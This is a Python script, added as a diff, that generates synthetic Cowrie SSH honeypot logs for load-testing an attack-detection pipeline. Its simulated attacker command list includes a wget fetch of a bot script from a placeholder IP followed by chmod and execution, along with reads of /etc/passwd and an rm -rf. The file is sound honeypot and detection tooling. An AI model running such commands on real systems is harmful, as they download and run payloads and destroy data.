@@ -0,0 +1,277 @@
+# generate_cowrie_events.py
+"""
+Synthetic raw Cowrie event stream (cowrie.json lines) at any scale, for
+load-testing extract_data_real.py, sessionizer.py and everything after.
+
+generate_attack_logs.py writes already-aggregated feature rows; this
+writes the events Cowrie itself logs, one session at a time:
+
+    session.connect, client.version, client.kex,
+    login.failed x n, [login.success], command.input x m, session.closed
+
+The attack type of a session (brute_force / command_injection / other)
+decides how many failed logins and commands it gets, so the usual
+build_features heuristic recovers roughly the requested mix. Source IPs
+come from a pool of --ips addresses with a Zipf-like skew (a few heavy
+hitters, a long tail).
+
+Everything is drawn with NumPy a chunk of sessions at a time: per-session
+counts, np.repeat to expand them into events, a segmented cumsum for the
+event times, then one argsort so sessions interleave like a real log.
+Memory depends on --chunk-events, not on --events; lines are time-ordered
+within a chunk. A .gz --out is gzip-compressed (what --files expects for
+rotated logs).
+
+    python3 src/generate_cowrie_events.py --events 10000000 --ips 50000
+    python3 src/generate_cowrie_events.py --events 1000000 --mix brute_force=0.8,command_injection=0.2 \\
+        --out /tmp/cowrie.json.gz --truth /tmp/sessions.csv
+"""
+import argparse
+import gzip
+import os
+import time
+
+import numpy as np
+import pandas as pd
+
+import metrics
+
+OUT = "var/log/cowrie/cowrie.json"
+N_EVENTS = 1000000
+N_IPS = 10000
+CHUNK_EVENTS = 250000
+IP_SKEW = 1.1
+# same proportions as generate_attack_logs.py
+DEFAULT_MIX = "command_injection=0.6,brute_force=0.3,other=0.1"
+SENSOR = "cowrie-01"
+DST_IP = "10.0.0.5"
+
+KINDS = ["cowrie.session.connect", "cowrie.client.version", "cowrie.client.kex", "cowrie.login.failed",
+         "cowrie.login.success", "cowrie.command.input", "cowrie.session.closed"]
+CONNECT, VERSION, KEX, FAILED, SUCCESS, COMMAND, CLOSED = range(len(KINDS))
+# per attack type: mean failed logins, P(login succeeds), mean commands after login, mean gap (s)
+PROFILES = {
+    "brute_force": (6.0, 0.05, 0.5, 2.0),
+    "command_injection": (0.5, 1.0, 9.0, 5.0),
+    "other": (0.3, 0.3, 1.0, 3.0),
+}
+# pools are plain ASCII without quotes or backslashes, so lines need no JSON escaping
+USERNAMES = ["root", "admin", "user", "test", "guest", "oracle", "ftp", "pi", "ubuntu", "support"]
+PASSWORDS = ["", "1234", "root", "pass", "toor", "2233", "3344", "password", "123456", "admin", "qwerty"]
+COMMANDS = ["ls", "ls -la", "cat /etc/passwd", "cat /proc/cpuinfo", "uname -a", "cd /tmp", "mkdir .x",
+            "touch a", "echo hi", "rm -rf /tmp/*", "cp /bin/sh /tmp/s", "wget http://203.0.113.7/bot.sh",
+            "chmod +x bot.sh", "./bot.sh", "ifconfig", "exit"]
+CLIENT_VERSIONS = ["SSH-2.0-libssh_0.9.6", "SSH-2.0-Go", "SSH-2.0-OpenSSH_8.9p1", "SSH-2.0-PuTTY_Release_0.78"]
+KEX_BODY = '"kexAlgs":["curve25519-sha256","diffie-hellman-group14-sha256"],"message":"SSH client hassh fingerprint"}\n'
+DIGITS = np.array([f"{i:03d}" for i in range(1000)], dtype=object)
+
+
+def parse_mix(spec):
+    """'brute_force=0.3,...' -> (names, probabilities normalised to 1)."""
+    mix = {}
+    for part in spec.split(","):
+        if part.strip():
+            name, _, p = part.partition("=")
+            name = name.strip()
+            if name not in PROFILES:
+                raise SystemExit(f"unknown attack type '{name}' (known: {', '.join(PROFILES)})")
+            mix[name] = float(p)
+    total = sum(mix.values())
+    if total <= 0:
+        raise SystemExit("--mix needs at least one positive weight")
+    return list(mix), np.array([v / total for v in mix.values()])
+
+
+def ip_pool(n, rng):
+    # distinct addresses in 1.0.0.0 - 223.255.255.255
+    ips = np.unique(rng.integers(1 << 24, 224 << 24, int(n * 1.1) + 16, dtype=np.uint32))[:n]
+    rng.shuffle(ips)
+    octets = [(ips >> s) & 255 for s in (24, 16, 8, 0)]
+    return np.array([f"{a}.{b}.{c}.{d}" for a, b, c, d in zip(*octets)], dtype=object)
+
+
+class EventGenerator:
+    def __init__(self, n_ips=N_IPS, mix=DEFAULT_MIX, start="2025-01-01", days=1.0, n_events=N_EVENTS,
+                 ip_skew=IP_SKEW, seed=42):
+        self.rng = np.random.default_rng(seed)
+        self.types, self.p = parse_mix(mix)
+        self.profiles = np.array([PROFILES[t] for t in self.types])
+        # brute force is always a burst of at least two failures
+        self.min_failed = np.array([2 if t == "brute_force" else 0 for t in self.types])
+        self.ips = ip_pool(n_ips, self.rng)
+        rank = np.arange(1, len(self.ips) + 1, dtype=np.float64)
+        self.ip_cdf = np.cumsum(rank ** -ip_skew)
+        self.ip_cdf /= self.ip_cdf[-1]
+        # spread the expected number of sessions evenly over the time span
+        failed, success, cmds, _ = (self.p @ self.profiles)
+        self.events_per_session = 4 + failed + success + cmds
+        n_sessions = max(n_events / self.events_per_session, 1.0)
+        self.mean_arrival = days * 86400.0 / n_sessions
+        self.clock = np.datetime64(start, "us").astype(np.int64) / 1e6
+        self.next_session = int(self.rng.integers(1 << 40))
+        # event bodies that only depend on a vocabulary entry, formatted once
+        self.kind_head = np.array([f'{{"eventid":"{k}","timestamp":"' for k in KINDS], dtype=object)
+        self.command_body = np.array([f'"input":"{c}","message":"CMD: {c}"}}\n' for c in COMMANDS], dtype=object)
+        self.login_body = np.array([f'"username":"{u}","password":"{pw}","message":"login attempt [{u}/{pw}] {word}"}}\n'
+                                    for word in ("failed", "succeeded") for u in USERNAMES for pw in PASSWORDS],
+                                   dtype=object)
+        self.version_body = np.array([f'"version":"{v}","message":"Remote SSH version: {v}"}}\n'
+                                      for v in CLIENT_VERSIONS], dtype=object)
+
+    def sessions(self, n):
+        """Per-session arrays for the next n sessions."""
+        rng = self.rng
+        kind = rng.choice(len(self.types), n, p=self.p)
+        prof = self.profiles[kind]
+        failed = np.maximum(rng.poisson(prof[:, 0]), self.min_failed[kind])
+        success = (rng.random(n) < prof[:, 1]).astype(np.int64)
+        cmds = rng.poisson(prof[:, 2]) * success
+        starts = self.clock + np.cumsum(rng.exponential(self.mean_arrival, n))
+        self.clock = float(starts[-1])
+        ids = np.arange(self.next_session, self.next_session + n)
+        self.next_session += n
+        return {
+            "kind": kind, "failed": failed, "success": success, "cmds": cmds, "start": starts,
+            "gap": prof[:, 3], "ip": np.searchsorted(self.ip_cdf, rng.random(n)), "id": ids,
+            "n_events": 4 + failed + success + cmds,
+        }
+
+    def events(self, s):
+        """Expand per-session arrays into time-ordered per-event arrays."""
+        rng = self.rng
+        n_events = s["n_events"]
+        total = int(n_events.sum())
+        sess = np.repeat(np.arange(len(n_events)), n_events)
+        first = np.cumsum(n_events) - n_events
+        pos = np.arange(total) - first[sess]
+        # position -> event kind: connect, version, kex, failed..., success, commands..., closed
+        f, ok = s["failed"][sess], s["success"][sess]
+        kind = np.select(
+            [pos == 0, pos == 1, pos == 2, pos < 3 + f, (pos == 3 + f) & (ok == 1), pos == n_events[sess] - 1],
+            [CONNECT, VERSION, KEX, FAILED, SUCCESS, CLOSED], COMMAND)
+        gaps = rng.exponential(s["gap"][sess])
+        gaps[first] = 0.0
+        offset = np.cumsum(gaps)
+        offset -= offset[first][sess]
+        t = s["start"][sess] + offset
+        order = np.argsort(t, kind="stable")
+        duration = offset[first + n_events - 1]
+        return {
+            "t": t[order], "kind": kind[order], "sess": sess[order], "duration": duration,
+            "user": rng.integers(0, len(USERNAMES), total)[order],
+            "password": rng.integers(0, len(PASSWORDS), total)[order],
+            "command": rng.integers(0, len(COMMANDS), total)[order],
+        }
+
+    def text(self, s, e):
+        """
+        The chunk's JSON lines as one string. Nothing is formatted per event:
+        pieces are formatted once per second, session or vocabulary entry,
+        picked by index into a (events x pieces) object array and joined once.
+        """
+        us = (e["t"] * 1e6).astype(np.int64)
+        seconds, second_idx = np.unique(us // 1000000, return_inverse=True)
+        frac = us % 1000000
+        sids = [f"{i:012x}" for i in s["id"]]
+        ips = self.ips[s["ip"]]
+        ports = self.rng.integers(1024, 65535, len(sids))
+        session_head = np.array([f'Z","src_ip":"{ip}","session":"{sid}","sensor":"{SENSOR}",'
+                                 for ip, sid in zip(ips, sids)], dtype=object)
+        per_session = {
+            CONNECT: [f'"src_port":{port},"dst_ip":"{DST_IP}","dst_port":22,"protocol":"ssh",'
+                      f'"message":"New connection: {ip}:{port} ({DST_IP}:22) [session: {sid}]"}}\n'
+                      for ip, port, sid in zip(ips, ports, sids)],
+            CLOSED: [f'"duration":{d:.3f},"message":"Connection lost after {int(d)} seconds"}}\n'
+                     for d in e["duration"]],
+            VERSION: self.version_body[s["id"] % len(CLIENT_VERSIONS)],
+        }
+        kind, sess = e["kind"], e["sess"]
+        body = np.empty(len(kind), dtype=object)
+        for k, values in per_session.items():
+            m = kind == k
+            body[m] = np.asarray(values, dtype=object)[sess[m]]
+        m = kind == COMMAND
+        body[m] = self.command_body[e["command"][m]]
+        m = (kind == FAILED) | (kind == SUCCESS)
+        login = ((kind[m] == SUCCESS) * len(USERNAMES) + e["user"][m]) * len(PASSWORDS) + e["password"][m]
+        body[m] = self.login_body[login]
+        body[kind == KEX] = KEX_BODY
+
+        parts = np.empty((len(kind), 6), dtype=object)
+        parts[:, 0] = self.kind_head[kind]
+        parts[:, 1] = np.array([f"{t}." for t in seconds.astype("datetime64[s]").astype(str)], dtype=object)[second_idx]
+        parts[:, 2] = DIGITS[frac // 1000]
+        parts[:, 3] = DIGITS[frac % 1000]
+        parts[:, 4] = session_head[sess]
+        parts[:, 5] = body
+        return "".join(parts.ravel().tolist())
+
+    def truth(self, s):
+        return pd.DataFrame({
+            "session": [f"{i:012x}" for i in s["id"]],
+            "src_ip": self.ips[s["ip"]],
+            "attack_type": np.array(self.types, dtype=object)[s["kind"]],
+            "failed_logins": s["failed"],
+            "commands": s["cmds"],
+        })
+
+
+def open_out(path):
+    os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
+    if path.endswith(".gz"):
+        return gzip.open(path, "wt", compresslevel=1)
+    return open(path, "w")
+
+
+def generate(out, n_events=N_EVENTS, chunk_events=CHUNK_EVENTS, truth=None, **kwargs):
+    """Write about n_events lines (whole sessions only) to `out`; returns (events, per-type session counts)."""
+    gen = EventGenerator(n_events=n_events, **kwargs)
+    written, counts = 0, dict.fromkeys(gen.types, 0)
+    chunk_sessions = max(int(chunk_events / gen.events_per_session), 1)
+    if truth and os.path.exists(truth):
+        os.remove(truth)
+    with open_out(out) as f:
+        while written < n_events:
+            s = gen.sessions(chunk_sessions)
+            # stop at the last whole session that still fits
+            keep = int(np.searchsorted(np.cumsum(s["n_events"]), n_events - written, side="right"))
+            if keep == 0:
+                break
+            s = {k: v[:keep] for k, v in s.items()}
+            e = gen.events(s)
+            f.write(gen.text(s, e))
+            written += len(e["t"])
+            for k, c in zip(*np.unique(s["kind"], return_counts=True)):
+                counts[gen.types[k]] += int(c)
+            if truth:
+                gen.truth(s).to_csv(truth, mode="a", header=not os.path.exists(truth), index=False)
+    return written, counts
+
+
+def main():
+    p = argparse.ArgumentParser(description="Generate a synthetic raw Cowrie JSON event log")
+    p.add_argument("--events", type=int, default=N_EVENTS, help="number of events (lines) to write")
+    p.add_argument("--ips", type=int, default=N_IPS, help="distinct source IPs")
+    p.add_argument("--mix", default=DEFAULT_MIX, help=f"attack type weights (default: {DEFAULT_MIX})")
+    p.add_argument("--ip-skew", type=float, default=IP_SKEW, help="Zipf exponent of the IP distribution (0 = uniform)")
+    p.add_argument("--start", default="2025-01-01", help="timestamp of the first session")
+    p.add_argument("--days", type=float, default=1.0, help="time span the sessions are spread over")
+    p.add_argument("--seed", type=int, default=42)
+    p.add_argument("--chunk-events", type=int, default=CHUNK_EVENTS, help="events generated per chunk (bounds memory)")
+    p.add_argument("--out", default=OUT, help="output log (.gz for gzip)")
+    p.add_argument("--truth", help="also write session,src_ip,attack_type,... to this CSV")
+    args = p.parse_args()
+
+    t0 = time.perf_counter()
+    with metrics.Stage("generate") as st:
+        n, counts = generate(args.out, args.events, args.chunk_events, args.truth, n_ips=args.ips, mix=args.mix,
+                             start=args.start, days=args.days, ip_skew=args.ip_skew, seed=args.seed)
+        st.rows(rows_out=n, sessions=sum(counts.values()))
+    dt = time.perf_counter() - t0
+    print(f"Wrote {n:,} events ({sum(counts.values()):,} sessions) to {args.out} "
+          f"({os.path.getsize(args.out) / 1e6:,.1f} MB) in {dt:.1f}s, {n / max(dt, 1e-9):,.0f} events/s")
+    print("Sessions by attack type:", counts)
+
+
+if __name__ == "__main__":
+    main()